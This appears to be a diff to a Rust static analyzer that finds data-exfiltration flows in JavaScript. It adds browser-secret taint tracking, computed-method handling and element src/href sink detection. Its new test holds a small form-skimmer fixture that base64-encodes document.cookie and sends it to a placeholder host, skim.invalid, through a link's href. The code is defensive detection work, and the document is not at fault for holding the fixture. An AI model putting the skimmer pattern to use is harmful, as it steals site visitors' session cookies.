@@ -66,7 +66,9 @@ const TOOLARG: Taint = 1 << 4;
 const NETRESP: Taint = 1 << 5;
 const DECODED: Taint = 1 << 6;
 const PUBLISH_TOKEN: Taint = 1 << 7;
-const EXFIL_SOURCES: Taint = ENV_BULK | ENV_SECRET | CRED | SYSINFO | TOOLARG | PUBLISH_TOKEN;
+/// Browser-held secrets: cookies, form fields, web storage.
+const BROWSER: Taint = 1 << 8;
+const EXFIL_SOURCES: Taint = ENV_BULK | ENV_SECRET | CRED | SYSINFO | TOOLARG | PUBLISH_TOKEN | BROWSER;
 
 fn taint_names(t: Taint) -> impl Iterator<Item = &'static str> {
     [
@@ -76,6 +78,7 @@ fn taint_names(t: Taint) -> impl Iterator<Item = &'static str> {
         (CRED, "credential-file"),
         (SYSINFO, "system-info"),
         (TOOLARG, "tool-argument"),
+        (BROWSER, "browser-data"),
     ]
     .into_iter()
     .filter(move |(bit, _)| t & bit != 0)
@@ -722,9 +725,14 @@ impl<'s> Analyzer<'s> {
             }
             _ => {}
         }
-        // Method calls on a folded receiver.
+        // Method calls on a folded receiver (`s['split']('|')` too).
+        let computed;
         let (object, method) = match &call.callee {
             Expression::StaticMemberExpression(m) => (&m.object, m.property.name.as_str()),
+            Expression::ComputedMemberExpression(m) => {
+                computed = self.eval(&m.expression, false, depth + 1)?;
+                (&m.object, computed.as_str())
+            }
             _ => return None,
         };
         match method {
@@ -808,15 +816,19 @@ impl<'s> Analyzer<'s> {
                 .map(|e| e.as_expression().and_then(|e| self.eval(e, partial, depth + 1)))
                 .collect(),
             Expression::CallExpression(call) => {
-                let Expression::StaticMemberExpression(m) = &call.callee else { return None };
-                match m.property.name.as_str() {
+                let (object, method) = match &call.callee {
+                    Expression::StaticMemberExpression(m) => (&m.object, m.property.name.to_string()),
+                    Expression::ComputedMemberExpression(m) => (&m.object, self.eval(&m.expression, false, depth + 1)?),
+                    _ => return None,
+                };
+                match method.as_str() {
                     "reverse" => {
-                        let mut v = self.eval_array(&m.object, partial, depth + 1)?;
+                        let mut v = self.eval_array(object, partial, depth + 1)?;
                         v.reverse();
                         Some(v)
                     }
                     "split" => {
-                        let s = self.eval(&m.object, false, depth + 1)?;
+                        let s = self.eval(object, false, depth + 1)?;
                         let sep = self.eval(call.arguments.first()?.as_expression()?, false, depth + 1)?;
                         Some(if sep.is_empty() {
                             s.chars().map(String::from).collect()
@@ -853,6 +865,10 @@ impl<'s> Analyzer<'s> {
                     return ENV_BULK;
                 }
                 if let Expression::Identifier(id) = m.object.get_inner_expression() {
+                    let prop = m.property.name.as_str();
+                    if id.name == "document" && matches!(prop, "cookie" | "forms") || matches!(id.name.as_str(), "localStorage" | "sessionStorage") {
+                        return BROWSER;
+                    }
                     if self.module_of(id.name.as_str()).is_some_and(|m| m == "process.env") {
                         return env_taint(m.property.name.as_str());
                     }
@@ -1307,8 +1323,10 @@ impl<'s> Analyzer<'s> {
                 }
             }
         }
+        // Dynamic code from a computed value: a second pass can tell whether
+        // it came out of a local decoder function defined further down.
         if (is_eval_api(&name) || name.ends_with("._compile"))
-            && call.arguments.iter().filter_map(Argument::as_expression).any(|a| matches!(a.get_inner_expression(), Expression::CallExpression(c) if matches!(c.callee.get_inner_expression(), Expression::Identifier(_))))
+            && call.arguments.iter().filter_map(Argument::as_expression).any(|a| !matches!(a.get_inner_expression(), Expression::StringLiteral(_) | Expression::TemplateLiteral(_)))
         {
             self.eval_of_local_call = true;
         }
@@ -1598,6 +1616,16 @@ impl<'a> Visit<'a> for Analyzer<'_> {
     fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
         self.visit_expression(&it.right);
         if let Some(member) = it.left.as_member_expression() {
+            if let Some(p @ ("src" | "href" | "action")) = member.static_property_name().as_deref() {
+                // `img.src = url + data`: a request the browser makes for us.
+                let t = self.taint(&it.right, 0);
+                if t & EXFIL_SOURCES != 0 {
+                    let dest = self.eval(&it.right, true, 0);
+                    let api = format!("element.{p}");
+                    self.push_flow(t, "network", &api, dest.clone(), it.span);
+                    self.push_network(Some(api), dest, it.span);
+                }
+            }
             let prop = member.static_property_name().map(|p| p.to_string()).or_else(|| match member {
                 MemberExpression::ComputedMemberExpression(c) => self.eval(&c.expression, false, 0),
                 _ => None,
@@ -2270,6 +2298,16 @@ mod tests {
         assert!(f.flows.is_empty(), "{:?}", f.flows);
         let f = facts("const env = process.env;\nfunction f() { fetch('https://t.invalid/x', { method: 'POST', body: JSON.stringify(env) }); }");
         assert_eq!(f.flows[0].source, "env");
+    }
+
+    #[test]
+    fn form_skimmer_flow() {
+        let f = facts(
+            "function send(d) { const l = document.createElement('link'); l.href = 'https://skim.invalid/c?d=' + d; document.head.appendChild(l); }\ndocument.forms[0].addEventListener('submit', function () { send(btoa(document.cookie)); });",
+        );
+        let flow = f.flows.iter().find(|f| f.source == "browser-data").expect("flow");
+        assert_eq!(flow.sink_api, "element.href");
+        assert_eq!(flow.destination.as_deref(), Some("https://skim.invalid/c?d=*"));
     }
 
     #[test]
